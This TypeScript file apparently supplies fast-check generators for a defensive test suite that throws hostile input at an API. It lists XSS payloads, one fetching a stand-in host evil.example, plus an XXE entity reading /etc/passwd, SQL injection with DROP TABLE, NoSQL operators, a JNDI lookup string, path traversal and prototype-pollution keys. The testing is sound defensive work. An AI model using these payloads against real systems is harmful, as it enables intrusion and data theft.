/**
 * Shared fast-check arbitraries for the hostile-input suite: the strings, JSON values, bodies,
 * tokens and signatures an attacker (or a broken client) sends. Every markup payload is listed
 * in MARKUP so the checks can look for it, raw, in HTML and XML answers.
 */
import fc from 'fast-check';

/** Markup that would run if an HTML or XML answer reflected it unescaped. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><iframe src=javascript:alert(1)>",
  '</textarea><script>fetch("//evil.example")</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<![CDATA[<x>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '</Message><Message>injected</Message>',
  '{{constructor.constructor("alert(1)")()}}',
];

/** Strings that look like query languages: SQL, NoSQL operators, DynamoDB expressions. */
export const QUERYISH = [
  "' OR 1=1 --",
  '" OR ""="',
  "'; DROP TABLE conversations; --",
  '{"$gt":""}',
  '{"$ne":null}',
  '{"$where":"sleep(1000)"}',
  'pk = :x',
  'attribute_not_exists(pk)',
  'CONV#00000000-0000-0000-0000-000000000000',
  '#pk <> :pk OR begins_with(pk, :p)',
  '\u0024{jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00',
  '\\u0000',
];

/** Object keys that pollute prototypes when merged carelessly. */
export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

/**
 * Text that reaches lookup tables keyed by client words ("constructor" is Spanish for builder):
 * Object.prototype's names once made the knowledge search throw (a 500 on search, chat and SMS).
 */
export const PROTO_TEXT = [
  'what is a constructor?',
  'trabajo como constructor',
  '¿qué es __proto__?',
  'toString valueOf hasOwnProperty',
  'constructor 5',
  'my hearing is on constructor 3',
];

const controlChar = fc
  .integer({ min: 0, max: 0x1f })
  .chain((c) => fc.constantFrom(String.fromCharCode(c), String.fromCharCode(0x7f + (c % 2))));

/** Unicode oddities: lone surrogates, BOM, zero-width, right-to-left override, NUL. */
const oddUnicode = fc.constantFrom(
  '\uD800',
  '\uDFFF',
  '\uFEFF',
  '\u200B',
  '\u202E',
  '\u0000',
  '\u2028',
  '\uFFFF',
  '𝕏',
  'é',
);

/** One hostile string: markup, query-looking, control characters, odd Unicode, or noise. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...MARKUP) },
  { weight: 2, arbitrary: fc.constantFrom(...QUERYISH) },
  { weight: 1, arbitrary: fc.constantFrom(...PROTO_KEYS, ...PROTO_TEXT) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40, unit: 'grapheme' }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40, unit: 'binary' }) },
  {
    weight: 2,
    arbitrary: fc
      .array(fc.oneof(controlChar, oddUnicode, fc.constantFrom(...MARKUP, ...QUERYISH)), {
        minLength: 1,
        maxLength: 6,
      })
      .map((parts) => parts.join('')),
  },
);

/** Any JSON value, with hostile strings and keys in it. */
export const hostileJson: fc.Arbitrary<unknown> = fc.letrec<{ value: unknown }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constant(null),
    fc.boolean(),
    fc.double(),
    fc.integer(),
    hostileText,
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(fc.oneof(hostileText, fc.constantFrom(...PROTO_KEYS)), tie('value'), {
      maxKeys: 4,
    }),
  ),
})).value;

/** JSON text that does not parse. */
export const malformedJson: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '{',
    '}',
    '{"text":',
    '{"text":"x"',
    "{'text':'x'}",
    '{"text":"x",}',
    '{text:"x"}',
    '[1,2',
    'NaN',
    'undefined',
    '{"text":"\\x41"}',
    '{"text":"\\u12"}',
    '{"a":1}{"b":2}',
    '{"text":"x"} trailing',
    '<xml/>',
    'text=hello',
    `${'['.repeat(5000)}${']'.repeat(4999)}`,
  ),
  fc.string({ minLength: 1, maxLength: 60 }).filter((s) => {
    try {
      JSON.parse(s);
      return false;
    } catch {
      return true;
    }
  }),
);

/** Deeply nested JSON that does parse: stack-hungry code paths. */
export const deepJson = fc
  .integer({ min: 100, max: 800 })
  .map((n) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`);

/** Bytes that are not UTF-8: lone continuation bytes, overlongs, surrogates, truncations. */
export const invalidUtf8: fc.Arbitrary<Uint8Array> = fc
  .tuple(
    fc.constantFrom(
      [0x80],
      [0xc0, 0xaf],
      [0xe0, 0x80, 0xaf],
      [0xed, 0xa0, 0x80],
      [0xf8, 0x88, 0x80, 0x80, 0x80],
      [0xff],
      [0xfe, 0xff],
      [0xe2, 0x82],
      [0xf4, 0x90, 0x80, 0x80],
    ),
    fc.constantFrom('{"text":"', '{"language":"', '{"code":"', ''),
  )
  .map(([bad, prefix]) => {
    const head = new TextEncoder().encode(prefix);
    const tail = new TextEncoder().encode(prefix ? '"}' : '');
    return new Uint8Array([...head, ...bad, ...tail]);
  });

/** Content types other than the one an endpoint takes (and missing ones). */
export const wrongContentType = fc.constantFrom(
  undefined,
  '',
  'text/plain',
  'text/html',
  'application/xml',
  'multipart/form-data; boundary=x',
  'application/jsonp',
  'application/json-patch+json',
  'application/x-www-form-urlencoded',
  'application/javascript',
  '*/*',
  'json',
);

/** A base64url-ish random token string of the bearer's alphabet, or not. */
export const randomToken = fc.oneof(
  fc.string({
    unit: fc.constantFrom(...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-'),
    minLength: 16,
    maxLength: 60,
  }),
  hostileText,
  fc.string({ maxLength: 300 }),
);

/** `text` with one character replaced by another of the same alphabet. */
export function flipOne(text: string, alphabet: string): fc.Arbitrary<string> {
  return fc
    .tuple(fc.nat({ max: Math.max(0, text.length - 1) }), fc.nat({ max: alphabet.length - 1 }))
    .map(([i, j]) => {
      const old = text[i] ?? '';
      const replacement = alphabet[j] === old ? alphabet[(j + 1) % alphabet.length] : alphabet[j];
      return `${text.slice(0, i)}${replacement}${text.slice(i + 1)}`;
    });
}

export const BASE64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-';
export const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';

/** Percent-encodes a string for a path or query (lone surrogates become U+FFFD first). */
export const encodePath = (text: string) =>
  encodeURIComponent(
    text.replace(
      /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g,
      '\uFFFD',
    ),
  );

/**
 * Well-formed ids of nothing: mostly a few fixed ones (so the read-through cache answers them
 * after the first read), one time in fifty a fresh one (each costs a real ~4 ms GetItem).
 */
export const unknownUuid = fc.oneof(
  {
    weight: 49,
    arbitrary: fc.constantFrom(
      '7b0e5a52-8b1f-4f7e-9a51-7f1f0c7b2d11',
      '00000000-0000-4000-8000-000000000000',
      'ffffffff-ffff-4fff-bfff-ffffffffffff',
      '3f2504e0-4f89-41d3-9a0c-0305e82c3301',
      'c9bf9e57-1685-4c89-bafb-ff5af830be8a',
      '16fd2706-8baf-433b-82eb-8c7fada847da',
    ),
  },
  { weight: 1, arbitrary: fc.uuid() },
);

/** Path segments that are not ids of anything. */
export const badIdSegment = fc.oneof(
  unknownUuid,
  fc.constantFrom(
    '00000000-0000-0000-0000-000000000000',
    'null',
    'undefined',
    '..',
    '%2e%2e',
    '%00',
    'CONV%23x',
    'PHONE%23%2B12135550100',
    '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    '%27%20OR%201%3D1%20--',
    '%7B%22%24gt%22%3A%22%22%7D',
    '__proto__',
    'constructor',
    'x'.repeat(3000),
    '%ZZ',
    '%E0%A4%A',
    '%C0%AF',
    '%ED%A0%80',
    '%FF%FE',
    '%E2%82',
  ),
  hostileText.map(encodePath),
);

/** A body that is too big for API.md's 16 KiB limit. */
export const hugeString = fc
  .integer({ min: 16 * 1024 + 1, max: 20 * 1024 })
  .map((n) => 'x'.repeat(n));
